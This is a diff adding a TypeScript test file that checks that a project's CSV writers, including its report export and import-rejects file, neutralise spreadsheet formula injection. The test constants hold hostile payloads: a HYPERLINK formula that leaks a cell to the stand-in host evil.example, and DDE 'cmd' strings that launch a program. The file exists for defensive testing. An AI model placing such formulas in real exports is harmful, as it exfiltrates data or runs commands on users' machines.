@@ -1,0 +1,77 @@
+import fs from 'node:fs';
+import os from 'node:os';
+import path from 'node:path';
+import { Client } from 'pg';
+import { csvText } from '../../shared/src/csv';
+import { definition } from '../../services/migration-data/src/definition';
+import { ImportError, importStock } from '../../services/migration-data/src/import';
+import { flattenRows, toCsv } from '../../scripts/report';
+import { startServiceHarness, testDatabaseUrl, type ServiceHarness } from '../support/serviceHarness';
+
+// CSV formula injection (OWASP): a cell that begins with =, +, -, @, tab or carriage return is run by
+// a spreadsheet as a formula. Every CSV the project writes prefixes such a text cell with a single
+// quote; numbers stay numbers.
+
+const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2)';
+const CMD = "+cmd|' /C calc'!A0";
+const SUM = '@SUM(1+1)';
+const MINUS = "-2+3+cmd|' /C calc'!A0";
+
+describe('CSV written by the project', () => {
+  it('neutralises formula cells and keeps numbers, negative ones included', () => {
+    expect(csvText([[HYPERLINK, CMD, SUM, MINUS], ['\tTAB', '\rCR', -1500, '-1500'], [2.5, true, null, 'plain']])).toBe(
+      `"'=HYPERLINK(""http://evil.example/?leak=""&B2)",'${CMD},'${SUM},'${MINUS}\r\n` +
+        `'\tTAB,"'\rCR",-1500,-1500\r\n` +
+        '2.5,true,,plain\r\n',
+    );
+  });
+
+  it('writes report cells that look like formulas as text, whatever field they come from', () => {
+    const data = {
+      unAgencies: [
+        { acronym: HYPERLINK, name: CMD, custodianOf: [{ code: SUM, parties: -3 }] },
+        { acronym: 'ILO', name: MINUS, custodianOf: [{ code: 'C097', parties: 12 }] },
+      ],
+    };
+    expect(toCsv(flattenRows(data))).toBe([
+      'unAgencies.acronym,unAgencies.name,unAgencies.custodianOf.code,unAgencies.custodianOf.parties',
+      `"'=HYPERLINK(""http://evil.example/?leak=""&B2)",'${CMD},'${SUM},-3`,
+      `ILO,'${MINUS},C097,12`,
+      '',
+    ].join('\r\n'));
+  });
+
+  describe('rejects files', () => {
+    let svc: ServiceHarness;
+    let client: Client;
+    let dir: string;
+    beforeAll(async () => {
+      svc = await startServiceHarness(definition);
+      client = new Client({ connectionString: testDatabaseUrl() });
+      await client.connect();
+      dir = fs.mkdtempSync(path.join(os.tmpdir(), 'mg-sec-csv-'));
+    });
+    afterAll(async () => {
+      await client.end();
+      await svc.close();
+      fs.rmSync(dir, { recursive: true, force: true });
+    });
+
+    it('write the rejected rows of an import with formula cells neutralised', async () => {
+      const file = path.join(dir, 'formulas.csv');
+      fs.writeFileSync(file, ['destination_iso3,origin_iso3,year,sex,stock', `${HYPERLINK},GIN,2020,male,1`, `${SUM},GIN,2020,male,1`, CMD, MINUS, '\tSEN,GIN,2020,male,1'].join('\n'));
+      const rejectsFile = path.join(dir, 'formulas.rejects.csv');
+      const error = await importStock(client, file, { revision: 't_csv', skipInvalid: true, rejectsFile }).catch((e: unknown) => e);
+      expect(error).toBeInstanceOf(ImportError);
+      expect(fs.readFileSync(rejectsFile, 'utf8')).toBe([
+        'line,reason,row',
+        `2,"destination_iso3 ""=HYPERLINK(""http://evil.example/?leak=""&B2)"" is not a known country code","'=HYPERLINK(""http://evil.example/?leak=""&B2),GIN,2020,male,1"`,
+        `3,"destination_iso3 ""@SUM(1+1)"" is not a known country code","'@SUM(1+1),GIN,2020,male,1"`,
+        `4,"expected 5 comma-separated cells, got 1",'${CMD}`,
+        `5,"expected 5 comma-separated cells, got 1",'${MINUS}`,
+        `6,"destination_iso3 ""\\tSEN"" is not a known country code","\\tSEN,GIN,2020,male,1"`,
+        '',
+      ].join('\n'));
+    });
+  });
+});
